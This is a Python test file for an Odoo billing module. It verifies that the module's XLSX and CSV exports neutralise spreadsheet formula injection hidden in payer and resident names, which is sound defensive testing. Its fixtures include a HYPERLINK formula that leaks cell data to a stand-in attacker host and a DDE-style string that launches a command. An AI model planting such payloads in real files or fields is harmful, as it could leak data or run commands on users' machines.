"""Formula injection (issue 12, item 5): a payer or a resident named like a formula comes out of every export as
text, never as a live formula (XLSX) nor as a cell a spreadsheet evaluates (CSV)."""

import base64
import csv
import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from odoo import Command
from odoo.addons.essms_billing.engine.exports import csv_text
from odoo.addons.essms_billing.engine.exports import is_formula_like
from odoo.tests import freeze_time
from odoo.tests import tagged

from .portal_common import JULY
from .portal_common import PortalCommon

PAYER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Département")'
RESIDENT = "+SUM(1+1)*cmd|' /C calc'!A0"
OTHER = "@SUM(1+1)"


@tagged("post_install", "-at_install")
class TestExportInjection(PortalCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.departement.name = PAYER
        cls.martin.beneficiary_id.partner_id.name = RESIDENT
        cls.bernard.beneficiary_id.partner_id.name = OTHER

    def _xlsx_formulas_and_texts(self, content):
        """Every formula the workbook holds (as stored in its XML) and every text cell value."""
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            formulas = [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                        and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))]
        texts = set()
        book = load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", "%s!%s is a formula" % (sheet.title, cell.coordinate))
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
        return formulas, texts

    def _check_xlsx(self, content, expected):
        formulas, texts = self._xlsx_formulas_and_texts(content)
        self.assertEqual(formulas, [])
        for name in expected:
            self.assertTrue(any(name in text for text in texts), "%s not written as text in %s" % (
                name, sorted(texts)[:80]))

    def _check_csv(self, content, delimiter, encoding, expected):
        text = content.decode(encoding)
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        for cell in cells:
            self.assertFalse(is_formula_like(cell), "a spreadsheet evaluates the CSV cell %r" % cell)
        for name in expected:
            self.assertTrue(any(name in cell for cell in cells), "%s missing from the CSV" % name)

    def test_the_helper(self):
        self.assertEqual(csv_text(PAYER), "'" + PAYER)
        for harmless in ("-12,50", "+33", "1 234,56", "Dupont", "", "12/07/2025", "-3", "-"):
            self.assertEqual(csv_text(harmless), harmless)
        for hostile in ("=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
            self.assertTrue(csv_text(hostile).startswith("'"), hostile)

    def _portal(self, layout):
        wizard = self.env["essms.portal.export"].create({
            "period_start": date(2025, 7, 15),
            "payer_id": self.departement.id,
            "establishment_ids": [Command.set(self.establishment.ids)],
            "layout_id": self.env.ref(layout).id,
        })
        wizard.action_export()
        return wizard

    def test_portal_xlsx_and_csv(self):
        wizard = self._portal("essms_billing.portal_layout_cd66")
        self.assertTrue(wizard.file_name.endswith(".xlsx"))
        self._check_xlsx(base64.b64decode(wizard.file), [RESIDENT[1:5]])
        wizard = self._portal("essms_billing.portal_layout_compact")
        settings = self.env.ref("essms_billing.portal_layout_compact")._file_settings()
        self._check_csv(base64.b64decode(wizard.file), settings.separator, settings.encoding, [])

    def test_entries_csv(self):
        wizard = self.env["essms.entries.export"].create({
            "date_from": date(2025, 7, 1),
            "date_to": date(2025, 12, 31),
            "layout_id": self.env.ref("essms_billing.entries_layout_default").id,
        })
        wizard.action_export()
        settings = wizard.layout_id._file_settings()
        self._check_csv(base64.b64decode(wizard.file), settings.separator, settings.encoding, ["'" + PAYER])

    def test_accounting_reciprocity_xlsx(self):
        wizard = self.env["essms.accounting.reciprocity"].create({
            "date_from": JULY, "date_to": date(2025, 12, 31),
            "establishment_ids": [Command.set(self.establishment.ids)],
        })
        wizard.action_export()
        self._check_xlsx(base64.b64decode(wizard.file), [PAYER])

    @freeze_time("2029-09-01")
    def test_recovery_dashboard_xlsx(self):
        """The claims within 6 months of time-barring are listed with their payer (the département's
        invoices of July 2025 are time-barred on 01/01/2030)."""
        dashboard = self.env["essms.recovery.dashboard"].create({"date_from": JULY, "date_to": date(2029, 9, 1)})
        dashboard.action_export()
        self._check_xlsx(base64.b64decode(dashboard.file), [PAYER])

    @freeze_time("2025-12-31")
    def test_ageing_xlsx(self):
        ageing = self.env["essms.receivable.ageing.export"].create({"date": date(2025, 12, 31)})
        ageing.action_export()
        self._check_xlsx(base64.b64decode(ageing.file), [PAYER])
